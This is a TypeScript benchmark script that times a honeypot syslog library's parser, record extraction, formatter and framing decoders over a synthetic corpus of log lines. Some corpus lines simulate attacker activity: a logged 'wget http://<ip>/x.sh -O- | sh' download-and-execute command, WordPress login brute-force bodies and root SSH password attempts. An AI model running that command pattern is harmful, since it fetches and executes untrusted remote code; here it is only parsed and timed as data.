// Benchmark of @decnet/syslog on one core: parser lines/s over a realistic mix of DECNET lines,
// the full line-to-record path, the formatter, and framing decoder throughput.
// Run: npx tsx --conditions=@decnet/source tools/bench/syslog-parse.ts [--json] [--seconds N]
import {
  createNewlineDecoder,
  createOctetCountingDecoder,
  createSyslogStreamDecoder,
  encodeOctetCounted,
  formatEventLine,
  parseEventRecord,
  parseSyslog,
  type FrameDecoder,
} from '@decnet/syslog';
import { argValue, asJson } from './lib/args.js';
import { rng } from './lib/measure.js';

/** Target from issue 4: the parser must sustain this on one core. */
const TARGET_LINES_PER_SECOND = 300_000;
/** Lines in the working set: large enough to defeat caching of one line, small enough to stay in memory. */
const CORPUS_LINES = 20_000;
/** Read size a socket or file reader typically hands the decoder. */
const CHUNK_BYTES = 64 * 1024;

const SECONDS = Number(argValue('--seconds') ?? 1);

function corpus(): string[] {
  const random = rng(42);
  const ip = (): string =>
    `${1 + Math.floor(random() * 223)}.${Math.floor(random() * 256)}.${Math.floor(random() * 256)}.${1 + Math.floor(random() * 254)}`;
  const ts = (): string =>
    `2026-05-02T06:${String(Math.floor(random() * 60)).padStart(2, '0')}:25.${String(Math.floor(random() * 1e6)).padStart(6, '0')}+00:00`;
  const decky = (): string => `decky-${String(1 + Math.floor(random() * 20)).padStart(2, '0')}`;
  const makers: [number, () => string][] = [
    // http request with a JSON header blob (escaped quotes and a bracket) and a body.
    [
      20,
      () =>
        formatEventLine({
          timestamp: ts(),
          hostname: decky(),
          service: 'http',
          eventType: 'request',
          fields: {
            method: 'POST',
            path: `/wp-login.php?r=${Math.floor(random() * 1e6)}`,
            remote_addr: `${ip()}:${1024 + Math.floor(random() * 60000)}`,
            headers: JSON.stringify({
              Host: 'intranet.local',
              'User-Agent': 'Mozilla/5.0 (X11; Linux x86_64) zgrab/0.x',
              Accept: '*/*',
              'X-Forwarded-For': ip(),
              Cookies: ['a=1', 'b=2'],
            }),
            body: 'log=admin&pwd=admin123&wp-submit=Log+In',
          },
        }),
    ],
    // ssh credential via auth-helper.
    [
      20,
      () =>
        formatEventLine({
          timestamp: ts(),
          hostname: decky(),
          service: 'auth-helper',
          eventType: 'auth_attempt',
          fields: {
            username: 'root',
            principal: 'root',
            secret_printable: 'P@ss]w0rd"1',
            secret_b64: 'UEBzc113MHJkIjE=',
            src_ip: ip(),
          },
        }),
    ],
    // connection lifecycle, the most frequent events.
    [
      25,
      () =>
        formatEventLine({
          timestamp: ts(),
          hostname: decky(),
          service: 'smtp',
          eventType: random() < 0.5 ? 'connect' : 'disconnect',
          fields: { src: ip(), src_port: String(1024 + Math.floor(random() * 60000)) },
        }),
    ],
    // sniffer TLS ClientHello, long SD.
    [
      10,
      () =>
        formatEventLine({
          timestamp: ts(),
          hostname: decky(),
          service: 'sniffer',
          eventType: 'tls_client_hello',
          fields: {
            src_ip: ip(),
            src_port: '51234',
            dst_ip: '10.0.0.5',
            dst_port: '443',
            ja3: '771,4865-4866-4867-49195-49199,0-23-65281-10-11-35-16-5-13-18-51-45-43-27-21,29-23-24,0',
            ja4: 't13d1516h2_8daaf6152771_02713d6af862',
            tls_version: 'TLSv1.3',
            sni: 'mail.corp.example',
            alpn: 'h2,http/1.1',
            raw_ciphers: '4865,4866,4867,49195,49199,49196,49200,52393,52392,49171,49172,156,157,47,53',
            raw_extensions: '0,23,65281,10,11,35,16,5,13,18,51,45,43,27,21',
          },
        }),
    ],
    // bash PROMPT_COMMAND line.
    [
      10,
      () =>
        `<14>1 ${ts()} ${decky()} bash - - -  CMD uid=0 user=root src=${ip()} pwd=/root cmd=wget http://${ip()}/x.sh -O- | sh`,
    ],
    // native sshd prose.
    [
      7,
      () =>
        `<38>1 ${ts()} dmz-gateway sshd ${100 + Math.floor(random() * 30000)} - - Failed password for root from ${ip()} port ${1024 + Math.floor(random() * 60000)} ssh2`,
    ],
    // double-wrapped.
    [
      3,
      () =>
        `<14>1 ${ts()} omega-decky 1 - - -  ${ts()} SRV-DELTA-77 bash - command [timeQuality tzKnown="1" isSynced="1" syncAccuracy="326228"] CMD uid=0 user=root src=${ip()} pwd=/root cmd=ls /var/www/html`,
    ],
    // startup banner with MSG.
    [
      3,
      () =>
        formatEventLine({
          timestamp: ts(),
          hostname: decky(),
          service: 'redis',
          eventType: 'startup',
          msg: 'redis honeypot listening on 0.0.0.0:6379',
        }),
    ],
    // garbage that must be rejected.
    [
      2,
      () =>
        random() < 0.5 ? 'GET / HTTP/1.1' : `<134>1 ${ts()} ${decky()} http - request [relay@55555 path="/unterminated`,
    ],
  ];
  const total = makers.reduce((n, [w]) => n + w, 0);
  const lines: string[] = [];
  for (let i = 0; i < CORPUS_LINES; i++) {
    let pick = random() * total;
    for (const [weight, make] of makers) {
      pick -= weight;
      if (pick < 0) {
        lines.push(make());
        break;
      }
    }
  }
  return lines;
}

interface Measurement {
  name: string;
  opsPerSecond: number;
  unit: string;
  mbPerSecond?: number;
}

/** Runs `pass` (one pass over the corpus, returning how many ops it did) for ~SECONDS; best of 3 rounds. */
function measure(name: string, unit: string, bytesPerPass: number | undefined, pass: () => number): Measurement {
  for (let w = 0; w < 3; w++) pass(); // warm-up: let the JIT settle
  let best = 0;
  let bestBytes = 0;
  for (let round = 0; round < 3; round++) {
    let ops = 0;
    let passes = 0;
    const start = process.hrtime.bigint();
    let elapsed = 0;
    do {
      ops += pass();
      passes++;
      elapsed = Number(process.hrtime.bigint() - start) / 1e9;
    } while (elapsed < SECONDS / 3);
    const rate = ops / elapsed;
    if (rate > best) {
      best = rate;
      bestBytes = bytesPerPass === undefined ? 0 : (bytesPerPass * passes) / elapsed;
    }
  }
  return {
    name,
    unit,
    opsPerSecond: Math.round(best),
    ...(bytesPerPass === undefined ? {} : { mbPerSecond: Math.round((bestBytes / 1e6) * 10) / 10 }),
  };
}

function chunked(stream: Uint8Array): Uint8Array[] {
  const chunks: Uint8Array[] = [];
  for (let i = 0; i < stream.length; i += CHUNK_BYTES) chunks.push(stream.subarray(i, i + CHUNK_BYTES));
  return chunks;
}

function concat(parts: Uint8Array[]): Uint8Array {
  const out = new Uint8Array(parts.reduce((n, p) => n + p.length, 0));
  let offset = 0;
  for (const p of parts) {
    out.set(p, offset);
    offset += p.length;
  }
  return out;
}

function main(): void {
  const lines = corpus();
  const encoder = new TextEncoder();
  const byteLines = lines.map((l) => encoder.encode(l));
  const totalBytes = byteLines.reduce((n, b) => n + b.length, 0);
  let sink = 0;

  const results: Measurement[] = [];
  results.push(
    measure('parseSyslog(string)', 'lines/s', totalBytes, () => {
      for (const line of lines) if (parseSyslog(line).ok) sink++;
      return lines.length;
    }),
  );
  results.push(
    measure('parseSyslog(bytes)', 'lines/s', totalBytes, () => {
      for (const bytes of byteLines) if (parseSyslog(bytes).ok) sink++;
      return byteLines.length;
    }),
  );
  results.push(
    measure('parseEventRecord(bytes)', 'lines/s', totalBytes, () => {
      for (const bytes of byteLines) {
        const r = parseEventRecord(bytes);
        if (r.ok) sink += r.record.attacker_ip.length;
      }
      return byteLines.length;
    }),
  );
  const at = new Date('2026-05-02T06:00:25Z');
  results.push(
    measure('formatEventLine', 'lines/s', undefined, () => {
      for (let i = 0; i < 10_000; i++) {
        sink += formatEventLine({
          timestamp: at,
          hostname: 'decky-01',
          service: 'ssh',
          eventType: 'auth_attempt',
          fields: { username: 'root', secret_printable: 'pa"ss]', secret_b64: 'cGEic3Nd', src_ip: '198.51.100.7' },
        }).length;
      }
      return 10_000;
    }),
  );

  const octetStream = chunked(concat(byteLines.map((b) => encodeOctetCounted(b))));
  const newlineStream = chunked(concat(byteLines.flatMap((b) => [b, new Uint8Array([10])])));
  const decode = (make: () => FrameDecoder, stream: Uint8Array[]) => (): number => {
    const decoder = make();
    let frames = 0;
    for (const chunk of stream) frames += decoder.push(chunk).length;
    return frames;
  };
  const octetBytes = octetStream.reduce((n, c) => n + c.length, 0);
  const newlineBytes = newlineStream.reduce((n, c) => n + c.length, 0);
  results.push(
    measure(
      'octet-counting decoder',
      'frames/s',
      octetBytes,
      decode(() => createOctetCountingDecoder(), octetStream),
    ),
  );
  results.push(
    measure(
      'newline decoder',
      'frames/s',
      newlineBytes,
      decode(() => createNewlineDecoder(), newlineStream),
    ),
  );
  results.push(
    measure(
      'auto decoder (octet stream)',
      'frames/s',
      octetBytes,
      decode(() => createSyslogStreamDecoder(), octetStream),
    ),
  );
  results.push(
    measure('auto decoder + parseEventRecord', 'lines/s', octetBytes, () => {
      const decoder = createSyslogStreamDecoder();
      let n = 0;
      for (const chunk of octetStream) {
        for (const event of decoder.push(chunk)) {
          if (event.type !== 'frame') continue;
          n++;
          if (parseEventRecord(event.bytes).ok) sink++;
        }
      }
      return n;
    }),
  );

  const parseRate = results[0]?.opsPerSecond ?? 0;
  const summary = {
    node: process.version,
    corpusLines: lines.length,
    averageLineBytes: Math.round(totalBytes / lines.length),
    rejectedLines: lines.filter((l) => !parseSyslog(l).ok).length,
    targetLinesPerSecond: TARGET_LINES_PER_SECOND,
    meetsTarget: parseRate >= TARGET_LINES_PER_SECOND,
    results,
  };
  if (sink === -1) console.log('');
  if (asJson) {
    console.log(JSON.stringify(summary, null, 2));
    return;
  }
  console.log(
    `@decnet/syslog on ${summary.node}: ${summary.corpusLines} lines, avg ${summary.averageLineBytes} B, ${summary.rejectedLines} malformed`,
  );
  for (const r of results) {
    const mb = r.mbPerSecond === undefined ? '' : `  ${r.mbPerSecond.toFixed(1).padStart(7)} MB/s`;
    console.log(`  ${r.name.padEnd(34)} ${r.opsPerSecond.toLocaleString('en-US').padStart(12)} ${r.unit}${mb}`);
  }
  console.log(
    `  target ${TARGET_LINES_PER_SECOND.toLocaleString('en-US')} lines/s: ${summary.meetsTarget ? 'met' : 'NOT met'}`,
  );
}

main();
